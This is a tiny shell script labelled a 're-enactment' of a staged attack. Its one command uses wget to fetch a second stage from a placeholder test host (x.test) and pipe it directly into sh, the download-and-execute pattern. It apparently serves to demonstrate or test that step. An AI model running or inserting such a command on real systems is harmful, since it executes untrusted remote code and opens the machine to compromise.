#!/bin/sh
# re-enactment: fetches a stage and pipes it into a shell
wget -q -O - http://x.test/stage2.sh | sh
